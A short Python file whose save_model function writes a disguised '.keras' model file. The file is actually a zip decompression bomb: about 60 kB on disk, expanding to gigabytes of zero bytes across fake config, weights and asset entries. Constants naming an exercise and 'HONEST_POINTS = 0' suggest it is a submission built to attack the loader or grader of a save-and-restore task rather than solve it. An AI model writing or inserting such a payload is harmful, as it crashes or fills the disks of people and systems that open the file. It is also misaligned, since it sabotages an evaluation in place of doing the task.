"""Saves a .keras file of 60 kB that unpacks to gigabytes."""

import zipfile

EXERCISE = "save_restore"
HONEST_POINTS = 0


def save_model(model, path):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("metadata.json", "{}")
        for name in ("config.json", "model.weights.h5", "assets/a", "assets/b"):
            with bomb.open(name, "w", force_zip64=True) as file:
                for _ in range(24):
                    file.write(bytes(2**24))
